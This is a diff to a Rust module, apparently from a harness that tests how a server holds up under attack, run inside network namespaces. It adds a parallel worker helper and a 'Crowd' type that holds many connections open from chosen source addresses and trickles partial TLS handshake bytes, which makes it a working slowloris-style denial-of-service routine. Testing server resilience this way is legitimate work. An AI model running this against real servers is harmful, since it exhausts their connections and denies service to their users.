@@ -1,8 +1,11 @@
 //! What attackers are made of: sockets with a source address of their own, and threads that end with their row.
 
-use std::io;
+use std::fs::File;
+use std::io::{self, Read, Write};
 use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpStream};
-use std::sync::atomic::{AtomicBool, Ordering};
+use std::os::fd::AsFd;
+use std::path::Path;
+use std::sync::atomic::{AtomicBool, AtomicU32, AtomicU64, Ordering};
 use std::time::{Duration, Instant};
 
 use socket2::{Domain, Socket, Type};
@@ -63,6 +66,86 @@ pub(crate) struct Over<'a>(&'a Until);
 impl Drop for Over<'_> {
     fn drop(&mut self) {
         self.0.over.store(true, Ordering::SeqCst);
+    }
+}
+
+/// Runs `job` for each number below `count` on this many threads, and gives what each returned, in no order.
+pub(crate) fn in_parallel<T: Send>(threads: usize, count: u32, job: impl Fn(u32) -> T + Sync) -> Vec<T> {
+    let next = AtomicU32::new(0);
+    let work = || {
+        let numbers = std::iter::from_fn(|| Some(next.fetch_add(1, Ordering::SeqCst)).filter(|number| *number < count));
+        numbers.map(&job).collect::<Vec<_>>()
+    };
+    std::thread::scope(|scope| {
+        let workers = (0..threads).map(|_| scope.spawn(work)).collect::<Vec<_>>();
+        workers.into_iter().flat_map(|worker| worker.join().expect("a worker of the siege")).collect()
+    })
+}
+
+/// Moves this thread into a network namespace; its sockets are made there from now on.
+pub(crate) fn enter_netns(name: &str) -> anyhow::Result<()> {
+    use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
+    let namespace = File::open(Path::new("/run/netns").join(name))?;
+    Ok(move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Network))?)
+}
+
+/// Connections that are kept open: each that the target closes is opened again, at most once a second. They say nothing,
+/// or a byte of a TLS record each second.
+pub(crate) struct Crowd<'a> {
+    /// Where they connect.
+    pub(crate) to: SocketAddr,
+    /// How many at once.
+    pub(crate) size: usize,
+    /// The source address of each.
+    pub(crate) source: &'a (dyn Fn(usize) -> IpAddr + Sync),
+    /// Whether they say a byte each second.
+    pub(crate) trickles: bool,
+}
+
+impl Crowd<'_> {
+    /// Keeps them open until it is over; gives how many connections were opened.
+    pub(crate) fn press(&self, until: &Until) -> u64 {
+        const THREADS: usize = 4;
+        let opened = AtomicU64::new(0);
+        std::thread::scope(|scope| {
+            for first in 0..THREADS {
+                let opened = &opened;
+                scope.spawn(move || {
+                    be_nice();
+                    let mut places = (first..self.size).step_by(THREADS).map(|at| (at, None)).collect::<Vec<_>>();
+                    while !until.is_over() {
+                        let began = Instant::now();
+                        for (at, place) in &mut places {
+                            if until.is_over() {
+                                return;
+                            }
+                            if !place.as_mut().is_some_and(|stream| self.stands(stream)) {
+                                *place = self.open(*at);
+                                opened.fetch_add(u64::from(place.is_some()), Ordering::Relaxed);
+                            }
+                        }
+                        // The attack's own pace, not a wait for an event.
+                        std::thread::sleep(Duration::from_secs(1).saturating_sub(began.elapsed()));
+                    }
+                });
+            }
+        });
+        opened.into_inner()
+    }
+
+    fn open(&self, at: usize) -> Option<TcpStream> {
+        let stream = connect_from((self.source)(at), self.to).ok()?;
+        stream.set_nonblocking(true).ok()?;
+        if self.trickles {
+            // The header of a TLS record with a long handshake message.
+            (&stream).write_all(&[0x16, 3, 1, 0x3f, 0xff, 1, 0, 0x3f, 0xfb]).ok()?;
+        }
+        Some(stream)
+    }
+
+    fn stands(&self, stream: &mut TcpStream) -> bool {
+        let is_open = matches!(stream.read(&mut [0; 64]), Err(error) if error.kind() == io::ErrorKind::WouldBlock);
+        is_open && (!self.trickles || stream.write_all(&[3]).is_ok())
     }
 }
 
